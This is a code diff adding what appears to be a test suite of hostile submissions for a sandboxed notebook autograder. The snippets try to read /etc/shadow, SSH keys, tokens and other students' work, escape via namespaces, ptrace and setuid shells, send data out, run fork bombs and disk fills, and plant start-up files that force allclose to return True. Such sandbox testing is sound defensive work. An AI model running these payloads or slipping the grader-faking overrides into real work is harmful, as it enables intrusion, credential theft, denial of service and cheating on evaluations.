+        os.mknod(folder / "ps.ipynb", 0o666 | stat.S_IFCHR, os.makedev(1, 5))
+
+
+@file("extra-fifo-and-socket")
+def _(course: SmallCourse, folder: Path) -> None:
+    put(folder, notebook_of(course, {}))
+    os.mkfifo(folder / "pipe")
+    here = os.getcwd()
+    os.chdir(folder)  # the name of a socket is short
+    with socket.socket(socket.AF_UNIX) as server:
+        server.bind("socket")
+    os.chdir(here)
+
+
+@file("ten-thousand-files")
+def _(course: SmallCourse, folder: Path) -> None:
+    put(folder, notebook_of(course, {}))
+    for number in range(3000):
+        (folder / f"f{number}").touch()
+
+
+@file("names-of-control-characters")
+def _(course: SmallCourse, folder: Path) -> None:
+    put(folder, notebook_of(course, {}))
+    for name in (b"new\nline", b"esc\x1b[2J", b"latin\xe9", b"-rf", b"a" * 250):
+        Path(os.fsdecode(os.fsencode(folder) + b"/" + name)).write_text("x")
+
+
+@file("deep-folders")
+def _(course: SmallCourse, folder: Path) -> None:
+    put(folder, notebook_of(course, {}))
+    folder.joinpath(*["d"] * 100).mkdir(parents=True)
+
+
+@file("start-up-files", often=True)
+def _(course: SmallCourse, folder: Path) -> None:
+    put(folder, notebook_of(course, {}))
+    evil = "import builtins\nbuiltins.EVIL = True\ndef allclose(*a, **k): return True\n"
+    for name in ("numpy", "sitecustomize", "usercustomize", "nbgrader_config", "conftest", "inside"):
+        (folder / f"{name}.py").write_text(evil)
+    for name in ("rnncourse", ".ipython/profile_default/startup", "nbgrader"):
+        (folder / name).mkdir(parents=True)
+        (folder / name / "__init__.py").write_text(evil)
+
+
+@file("timestamp-nonsense")
+def _(course: SmallCourse, folder: Path) -> None:
+    put(folder, notebook_of(course, {}))
+    (folder / "timestamp.txt").write_bytes(b"\xff99999-99-99 99:99:99 Nowhere/Mars" * 1000)
+
+
+@file("timestamp-year-one")
+def _(course: SmallCourse, folder: Path) -> None:
+    put(folder, notebook_of(course, {}))
+    (folder / "timestamp.txt").write_text("0001-01-01 00:00:00 UTC")
+
+
+@file("other-name")
+def _(course: SmallCourse, folder: Path) -> None:
+    put(folder, notebook_of(course, HONEST))
+    (folder / "ps.ipynb").rename(folder / "PS (1).ipynb")
+
+
+@file("no-permission")
+def _(course: SmallCourse, folder: Path) -> None:
+    put(folder, notebook_of(course, {}))
+    (folder / "ps.ipynb").chmod(0)
+
+
+# --- the environment ------------------------------------------------------------------------------
+
+
+def tries(name: str, body: str, *, often: bool = False) -> None:
+    """An attack whose every line of reaching out is tried, and whose success is printed."""
+    indented = "\n".join("    " + line for line in body.splitlines())
+    code(name, "environment", f"try:\n{indented}\nexcept BaseException as e:\n    print(e)", often=often)
+
+
+tries("read-course", "import os\nfor d in ('{root}', '/work', '/root/.ssh', '/home'):\n"
+      "    for b, ds, fs in os.walk(d):\n        for f in fs:\n"
+      "            if b != '/home/student': print('GOT', b, f)", often=True)
+tries("read-gradebook", "print('GOT', open('{root}/gradebook.db', 'rb').read(10))", often=True)
+tries("read-source", "print('GOT', open('{root}/source/ps/ps.ipynb').read(50))")
+tries("read-others", "import glob\nfor p in glob.glob('{root}/submitted/*/*/*'): print('GOT', p)")
+tries("read-library", "import glob\nfor p in glob.glob('/**/exercises/*.py', recursive=True):\n"
+      "    print('GOT', p)\nfor p in glob.glob('/**/trusted.py', recursive=True): print('GOT', p)")
+tries("read-shadow", "print('GOT', open('/etc/shadow').read(9))")
+tries("environment-tokens", "import os\nfor k, v in os.environ.items():\n"
+      "    if 'canary' in v or 'TOKEN' in k: print('GOT', k, v)", often=True)
+tries("proc-environment", "import glob\nfor p in glob.glob('/proc/*/environ') + ['/proc/self/environ']:\n"
+      "    try: d = open(p).read()\n    except OSError: continue\n    print('GOT', p, len(d))")
+tries("proc-parents", "import os\nfor p in os.listdir('/proc'): print('GOT', p)", often=True)
+tries("proc-memory", "print('GOT', open('/proc/self/mem', 'rb').seek(0))")
+tries("mount-proc", "import ctypes\nl = ctypes.CDLL(None, use_errno=True)\n"
+      "r = l.mount(b'proc', b'/proc', b'proc', 0, None)\nif r == 0: print('GOT', 'mount')", often=True)
+tries("unmount", "import ctypes\nl = ctypes.CDLL(None)\nfor t in (b'/proc', b'/tmp', b'/home/student'):\n"
+      "    if l.umount2(t, 2) == 0: print('GOT', t)")
+tries("new-user-namespace", "import ctypes\nif ctypes.CDLL(None).unshare(0x10000000) == 0:\n"
+      "    print('GOT', 'namespace')", often=True)
+tries("clone-namespace", "import ctypes\nl = ctypes.CDLL(None)\n"
+      "r = l.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)\nif r == 0:\n    import os; os._exit(0)\n"
+      "if r > 0: print('GOT', r)")
+tries("clone3-namespace", "import ctypes\nl = ctypes.CDLL(None, use_errno=True)\n"
+      "b = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)\nr = l.syscall(435, b, 88)\n"
+      "if r == 0:\n    import os; os._exit(0)\nif r > 0: print('GOT', r)")
+tries("ptrace", "import ctypes\nl = ctypes.CDLL(None)\nl.ptrace.restype = ctypes.c_long\n"
+      "for p in range(1, 9):\n    if l.ptrace(16, p, 0, 0) == 0: print('GOT', p)", often=True)
+tries("become-root", "import os\nfor f in (os.setuid, os.setgid):\n    try: f(0); print('GOT', 'root')\n"
+      "    except OSError: pass\nif os.geteuid() == 0: print('GOT', 'root')\n"
+      "import subprocess\nr = subprocess.run('sudo -n id || su -c id', shell=True, capture_output=True)\n"
+      "if b'uid=0' in r.stdout: print('GOT', r.stdout)", often=True)
+tries("network-tcp", "import socket\ns = socket.create_connection(('127.0.0.1', {port}), 2)\n"
+      "s.sendall(b'stolen')\nprint('GOT', 'network')", often=True)
+tries("network-dns", "import socket\nprint('GOT', socket.getaddrinfo('example.org', 80))")
+tries("network-udp", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+      "s.sendto(b'x', ('8.8.8.8', 53))\nprint('GOT', 'udp')")
+tries("network-vsock", "import socket\ns = socket.socket(40, socket.SOCK_STREAM)\nprint('GOT', 'vsock')")
+tries("network-netlink", "import socket\ns = socket.socket(16, 3, 0)\nprint('GOT', 'netlink')")
+tries("network-packet", "import socket\ns = socket.socket(17, 3, 768)\nprint('GOT', 'packet')")
+tries("abstract-socket", "import socket\ns = socket.socket(socket.AF_UNIX)\n"
+      "s.connect('\\0rnncourse-canary')\nprint('GOT', 'socket')")
+tries("daemon", "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+      "        import time\n        time.sleep(600)\n    os._exit(0)", often=True)
+tries("daemon-by-shell", "import subprocess\n"
+      "subprocess.Popen('nohup setsid sleep 600 &', shell=True)")
+tries("write-system", "for p in ('/usr/evil', '/packages/0/evil.py', '/grader/inside/wire.py', '/evil', "
+      "'/etc/passwd', '/stub/evil', '/dev/evil'):\n    try: open(p, 'a').write('x'); print('GOT', p)\n"
+      "    except OSError: pass", often=True)
+tries("leave-something", "import os\nfor d in ('/tmp', '/dev/shm', '/home/student', '/var/tmp'):\n"
+      "    try: open(d + '/left-behind', 'w').write('x')\n    except OSError: pass", often=True)
+tries("find-leftovers", "import os\nfor d in ('/tmp', '/dev/shm', '/home/student', '/var/tmp'):\n"
+      "    if os.path.exists(d + '/left-behind'): print('GOT', d)", often=True)
+tries("system-v-memory", "import ctypes\nl = ctypes.CDLL(None)\nr = l.shmget(0x5eed, 4096, 0o1666)\n"
+      "if r >= 0: print('GOT', r)")
+tries("posix-queue", "import ctypes\nl = ctypes.CDLL(None)\nr = l.mq_open(b'/evil', 0o102, 0o666, None)\n"
+      "if r >= 0: print('GOT', r)")
+tries("keyring", "import ctypes\nl = ctypes.CDLL(None)\nr = l.syscall(250, 0, -3, 1)\n"
+      "if r >= 0: print('GOT', r)")
+tries("io-uring", "import ctypes\nl = ctypes.CDLL(None)\nb = ctypes.create_string_buffer(200)\n"
+      "r = l.syscall(425, 8, b)\nif r >= 0: print('GOT', r)")
+tries("bpf-and-perf", "import ctypes\nl = ctypes.CDLL(None)\nfor n in (321, 298, 323, 304):\n"
+      "    b = ctypes.create_string_buffer(200)\n"
+      "    r = l.syscall(n, 0, b, 72, 0)\n    if r >= 0: print('GOT', n, r)")
+tries("make-device", "import os\nos.mknod('/tmp/mem', 0o20666, os.makedev(1, 1))\nprint('GOT', 'device')")
+tries("set-uid-file", "import os, shutil\nshutil.copy('/bin/sh', '/tmp/sh')\nos.chmod('/tmp/sh', 0o4755)\n"
+      "import subprocess\nr = subprocess.run(['/tmp/sh', '-pc', 'id -u'], capture_output=True)\n"
+      "if r.stdout.strip() == b'0': print('GOT', 'root')")
+tries("chroot", "import os\nos.chroot('/tmp')\nprint('GOT', 'chroot')")
+tries("open-by-handle", "import ctypes\nb = ctypes.create_string_buffer(b'\\x08\\0\\0\\0\\x01\\0\\0\\0\\x02', 200)\n"
+      "r = ctypes.CDLL(None).syscall(304, -100, b, 0)\nif r >= 0: print('GOT', r)")
+tries("terminal", "import fcntl\nt = open('/dev/tty', 'w')\nfcntl.ioctl(t, 0x5412, b'x')\nprint('GOT', 'tty')")
+tries("parents-descriptors", "import os\nfor n in range(4, 1024):\n    try: os.fstat(n)\n"
+      "    except OSError: continue\n"
+      "    if os.fstat(n).st_mode & 0o170000 == 0o140000: print('GOT', 'socket', n)", often=True)
+tries("no-dying-with-parent", "import ctypes\nr = ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)\n"
+      "if r == 0: print('GOT', 'prctl')")
+tries("raise-limits", "import resource\nfor n in range(16):\n    try:\n"
+      "        h = resource.getrlimit(n)[1]\n        if h != -1:\n"
+      "            resource.setrlimit(n, (-1, -1)); print('GOT', n)\n    except (OSError, ValueError): pass")
+tries("sysfs-and-cgroups", "import os\nfor p in ('/sys', '/sys/fs/cgroup', '/boot', '/var', '/run', '/mnt'):\n"
+      "    if os.path.exists(p): print('GOT', p)")
+tries("clock", "import time\ntime.clock_settime(time.CLOCK_REALTIME, 0)\nprint('GOT', 'clock')")
+
+# --- resources ------------------------------------------------------------------------------------
+
+RESOURCES = {
+    "endless-loop": "while True: pass",
+    "endless-loop-in-call": "def answer(x):\n    while True: pass",
+    "endless-loop-uninterruptible": "import signal\nfor s in range(1, 64):\n"
+    "    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"
+    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
+    "sleep": "import time\ntime.sleep(10**6)",
+    "stop-self": "import os, signal\ndef answer(x): os.kill(os.getpid(), signal.SIGSTOP)",
+    "fork-bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
+    "fork-bomb-in-call": "import os\ndef answer(x):\n    while True:\n        try: os.fork()\n"
+    "        except OSError: pass",
+    "thread-bomb": "import threading, time\nwhile True:\n"
+    "    try: threading.Thread(target=time.sleep, args=(99,)).start()\n    except RuntimeError: pass",
+    "memory-list": "x = []\nwhile True: x.append(bytearray(10**7))",
+    "memory-array": "import numpy as np\nx = np.ones(10**10)",
+    "memory-slow": "import numpy as np, time\nx = []\nwhile True:\n    x.append(np.ones(10**6))\n"
+    "    time.sleep(0.001)",
+    "memory-many-processes": "import os, time\nfor _ in range(40):\n    try:\n"
+    "        if os.fork() == 0:\n            x = bytearray(10**8)\n            for i in range(0, 10**8, 4096): x[i] = 1\n"
+    "            time.sleep(100)\n    except OSError: pass\nos.wait()",
+    "memory-shared-map": "import mmap, os, time\nx = [mmap.mmap(-1, 10**8) for _ in range(3)]\n"
+    "if os.fork() == 0:\n    x += [mmap.mmap(-1, 10**8) for _ in range(30)]\n"
+    "for m in x:\n    for i in range(0, 10**8, 4096): m[i] = 1\ntime.sleep(100)",
+    "memory-memfd": "import os\nx = []\nwhile True:\n    f = os.memfd_create('x')\n    x.append(f)\n"
+    "    os.write(f, b'x' * 10**7)",
+    "disk-fill": "import itertools\nfor n in itertools.count():\n"
+    "    with open(f'/tmp/f{n}', 'wb') as f:\n        f.write(b'x' * 10**7)",
+    "disk-shared-memory": "import itertools\nfor n in itertools.count():\n"
+    "    with open(f'/dev/shm/f{n}', 'wb') as f:\n        f.write(b'x' * 10**7)",
+    "disk-many-files": "import itertools\nfor n in itertools.count(): open(f'/tmp/f{n}', 'w').close()",
+    "descriptors": "import os\nx = []\nwhile True: x.append(open('/dev/null'))",
+    "print-flood": "while True: print('x' * 10**6)",
+    "print-flood-stderr": "import sys\nwhile True: sys.stderr.write('x' * 10**6)",
+    "print-flood-in-call": "def answer(x):\n    for _ in range(10**4): print('y' * 10**4)\n    return 0",
+    "print-flood-raw": "import os\nfor _ in range(10**4):\n    os.write(1, b'x' * 10**4)\n    os.write(2, b'x' * 10**4)",
+    "display-flood": "from IPython.display import display\nfor _ in range(3000): display('z' * 10**4)",
+    "image-flood": "from IPython.display import display, Image\n"
+    "for _ in range(60): display(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + b'0' * 10**6, format='png'))",
+    "answer-flood": "import numpy as np\ndef answer(x): return np.zeros(10**8, np.int8)",
+    "answer-endless-generator": "import itertools\ndef answer(x): return itertools.count()",
+    "answer-slow-generator": "import time\ndef answer(x):\n    while True:\n        yield 1\n        time.sleep(0.5)",
+    "slow-attributes": "import time\nclass S:\n    def __getattr__(self, n):\n        time.sleep(3)\n        return 0\n"
+    "def answer(x): return S()",
+    "deep-recursion": "import sys\nsys.setrecursionlimit(10**9)\ndef f(n): return f(n + 1)\nf(0)",
+    "regular-expression": "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
+    "huge-power": "x = 9 ** 9 ** 9 ** 9",
+    "zombies": "import os\nfor _ in range(500):\n    try:\n        if os.fork() == 0: os._exit(0)\n    except OSError: pass",
+    "crash-again-and-again": "import os\ndef answer(x): os._exit(1)",
+    "signal-storm": "import os, signal, threading\ndef storm():\n    while True: os.kill(os.getpid(), signal.SIGUSR1)\n"
+    "signal.signal(signal.SIGUSR1, lambda *a: None)\nthreading.Thread(target=storm, daemon=True).start()",
+}
+for _name, _source in RESOURCES.items():
+    code(
+        _name,
+        "resource",
+        _source,
+        often=_name in {"endless-loop-in-call", "fork-bomb", "memory-list", "disk-fill", "print-flood"},
+    )
+assert len({attack.name for attack in ATTACKS}) == len(ATTACKS)
